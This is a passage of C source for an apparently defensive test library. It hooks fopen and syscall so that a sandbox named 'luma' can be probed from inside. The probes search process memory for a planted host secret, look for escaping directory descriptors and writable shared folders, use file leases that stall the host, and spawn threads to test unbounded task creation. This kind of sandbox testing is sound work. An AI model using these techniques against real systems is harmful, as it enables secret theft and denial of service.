    outcome(what, flock(fd, LOCK_EX | LOCK_NB));
  }
  /* the same through POSIX record locks (sqlite's) and a lease, which make
     the host's opens of the file for writing wait lease-break-time (45 s):
     a read lock needs only a read descriptor */
  char path[4096];
  snprintf(path, sizeof path, "%s/luma.config.json", root);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  struct flock l = { .l_type = F_RDLCK, .l_whence = SEEK_SET, .l_start = 0, .l_len = 0 };
  outcome("fcntl F_OFD_SETLK F_RDLCK luma.config.json", fd < 0 ? fd : fcntl(fd, F_OFD_SETLK, &l));
  outcome("fcntl F_SETLEASE F_RDLCK luma.config.json", fd < 0 ? fd : fcntl(fd, F_SETLEASE, F_RDLCK));
}

/* The host's environment left in the child's memory: every readable
   private mapping searched for the value of LUMA_ATTACK_SECRET (the spec
   sets it in the host's environment; the needle is made at run time, so
   that this library's own bytes do not match). */
static void env_in_memory(const char *root) {
  (void)root;
  char needle[32];
  snprintf(needle, sizeof needle, "%s%s", "hunt", "er2");
  FILE *f = fopen("/proc/self/maps", "re");
  if (!f) { say("read /proc/self/maps: refused\n"); return; }
  char line[512];
  int found = 0;
  while (fgets(line, sizeof line, f)) {
    unsigned long a, b;
    char perm[8], name[256] = "";
    if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %255s", &a, &b, perm, name) < 3 || perm[0] != 'r') continue;
    if (strstr(name, "[vvar") || strstr(name, "[vsys")) continue;
    for (const char *p = (const char *)a; p && p + 7 <= (const char *)b;) {
      p = memmem(p, (size_t)((const char *)b - p), needle, 7);
      if (!p) break;
      /* not the needle, nor this report (which quotes what it found) */
      if (p != needle && (p < report || p >= report + sizeof report) && found < 8) {
        say("host secret in memory at %s %s+%#lx: SUCCEEDED (%.*s)\n", perm, name[0] ? name : "anon",
            (unsigned long)(p - (const char *)a), 7, p);
      }
      if (p != needle && (p < report || p >= report + sizeof report)) found++;
      p += 7;
    }
  }
  fclose(f);
  if (!found) say("host secret in memory: refused (ENOENT)\n");
}

/* What the child holds and reaches outside its folders: its descriptors
   (a directory one would be a way around Landlock's checks of listing),
   and memory-backed folders to fill (/dev/shm, /tmp). */
static void reach(const char *root) {
  (void)root;
  for (int fd = 0; fd < 64; fd++) {
    char link[64], target[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n < 0) continue;
    target[n] = '\0';
    struct stat st;
    if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
      say("directory descriptor %d %s: SUCCEEDED (%d)\n", fd, target, fd);
      char buf[4096];
      outcome("  getdents64 on it", syscall(SYS_getdents64, fd, buf, sizeof buf));
      long f = openat(fd, "etc/hostname", O_RDONLY | O_CLOEXEC);
      outcome("  openat(it, etc/hostname)", f);
      if (f >= 0) close((int)f);
    } else say("fd %d: %s\n", fd, target);
  }
  long r = open("/dev/shm/luma-attack", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
  outcome("create /dev/shm/luma-attack", r);
  if (r >= 0) { close((int)r); unlink("/dev/shm/luma-attack"); }
  r = open("/tmp/luma-attack-reach", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
  outcome("create /tmp/luma-attack-reach", r);
  if (r >= 0) { close((int)r); unlink("/tmp/luma-attack-reach"); }
  r = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  outcome("open / to list it", r);
  if (r >= 0) close((int)r);
  r = open("/proc/self/root/etc/hostname", O_RDONLY | O_CLOEXEC);
  outcome("open /proc/self/root/etc/hostname", r);
  if (r >= 0) close((int)r);
  r = open("/proc/self/cwd/..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  outcome("open /proc/self/cwd/..", r);
  if (r >= 0) close((int)r);
}

/* Tasks without a bound: threads are allowed (clone with CLONE_THREAD),
   and with stacks of 16 KiB RLIMIT_AS does not bound how many. Each is a
   task of the machine's, and no RLIMIT_NPROC or pids cgroup holds the
   child: it can take every pid (kernel.pid_max) and kernel memory the
   address-space limit does not see, and the host can no longer start a
   thread or a process. Only THREADS_TRIED are made here (the machine is
   shared): all made is the hole. Closed for a host that is not root:
   RLIMIT_NPROC in the child's user namespace (handler_max_tasks). */
#define THREADS_TRIED 1000
#define THREAD_STACK (16 << 10)
static int idle_task(void *arg) {
  (void)arg;
  for (;;) syscall(SYS_pause);
  return 0;
}

static void tasks(const char *root) {
  (void)root;
  char *stacks = mmap(NULL, (size_t)THREADS_TRIED * THREAD_STACK, PROT_READ | PROT_WRITE,
                      MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (stacks == MAP_FAILED) { outcome("map the stacks", -1); return; }
  int made = 0, e = 0;
  for (; made < THREADS_TRIED; made++) {
    int r = clone(idle_task, stacks + (size_t)(made + 1) * THREAD_STACK,
                  CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, NULL);
    if (r < 0) { e = errno; break; }
  }
  if (made == THREADS_TRIED) say("threads made, unbounded: SUCCEEDED (%d)\n", made);
  else say("threads made: %d, then refused (%s)\n", made, strerrorname_np(e) ? strerrorname_np(e) : "?");
  /* its pids cgroup, where the host made one (v1's pids line, or v2's) */
  FILE *f = fopen("/proc/self/cgroup", "re");
  char line[512];
  while (f && fgets(line, sizeof line, f)) {
    char *name = strstr(line, "/luma-");
    if (name && (strstr(line, ":pids:") || strncmp(line, "0::", 3) == 0)) say("cgroup: %s", name + 1);
  }
  if (f) fclose(f);
}

static const struct { const char *name; void (*run)(const char *root); } attacks[] = {
  { "mem", host_memory }, { "config", config }, { "setown", owner_signal }, { "signals", signals },
  { "limits", host_limits }, { "stdout", host_stdout }, { "mount", mounts }, { "tiocsti", tiocsti },
  { "namespaces", namespaces }, { "userfaultfd", userfault }, { "environ", environment },
  { "fds", descriptors }, { "pid", pid }, { "socket", abstract_socket }, { "caps", capabilities },
  { "forge_empty", forge_empty }, { "forge_cut", forge_cut },
  { "metadata", metadata }, { "sysv", sysv }, { "memfd", memfd }, { "int80", int80 }, { "x32", x32 }, { "proc", proc_walk },
  { "sigio", sigio }, { "sigiokill", sigio_kill },
  { "rootcaps", root_caps }, { "terminal", terminal }, { "flock", lock_files }, { "envmem", env_in_memory }, { "reach", reach }, { "tasks", tasks }, { "linger", forge_linger },
  { "stderr", stderr_reach },
};

/* The module source that hands the report back as a long string. */
static FILE *as_module(void) {
  static char source[sizeof report + 64];
  snprintf(source, sizeof source, "return [==========[\n%s]==========]", report);
  return fmemopen(source, strlen(source), "r");
}

static FILE *attack(const char *path) {
  const char *mark = strstr(path, "/luma_attack/");
  if (!mark || getpid() == host) return NULL;
  char root[4096], name[64];
  snprintf(root, sizeof root, "%.*s", (int)(mark - path), path);
  snprintf(name, sizeof name, "%s", mark + strlen("/luma_attack/"));
  char *dot = strrchr(name, '.');
  if (dot) *dot = '\0';
  used = 0;
  report[0] = '\0';
  for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
    if (strcmp(attacks[i].name, name) == 0) attacks[i].run(root);
  if (!used) say("no attack named %s\n", name);
  return as_module();
}

FILE *fopen(const char *path, const char *mode) {
  FILE *f = attack(path);
  if (f) return f;
  FILE *(*real)(const char *, const char *) = (FILE * (*)(const char *, const char *)) dlsym(RTLD_NEXT, "fopen");
  return real(path, mode);
}

FILE *fopen64(const char *path, const char *mode) {
  FILE *f = attack(path);
  if (f) return f;
  FILE *(*real)(const char *, const char *) = (FILE * (*)(const char *, const char *)) dlsym(RTLD_NEXT, "fopen64");
  return real(path, mode);
}

/* LUMA_ATTACK_LANDLOCK_ABI=N: the host's kernel says Landlock's ABI is N
   (at most the real one), as an older kernel would: Debian 12's Linux 6.1
   has ABI 2, Ubuntu 24.04's 6.8 ABI 4; signal scoping needs 6. The host's
   library asks through syscall(), which this one stands in for. */
long syscall(long nr, ...) {
  va_list ap;
  va_start(ap, nr);
  long a[6];
  for (int i = 0; i < 6; i++) a[i] = va_arg(ap, long);
  va_end(ap);
  long (*real)(long, ...) = (long (*)(long, ...))dlsym(RTLD_NEXT, "syscall");
  long r = real(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
#ifdef SYS_landlock_create_ruleset
  if (nr == SYS_landlock_create_ruleset && a[0] == 0 && a[2] == 1 && landlock_abi_said >= 0 && r > landlock_abi_said)
    r = landlock_abi_said;
#endif
  return r;
}

int unshare(int flags) {
  if (no_user_namespace && (flags & CLONE_NEWUSER)) {
    errno = EPERM;
    return -1;
  }
  int (*real)(int) = (int (*)(int))dlsym(RTLD_NEXT, "unshare");
  return real(flags);
}
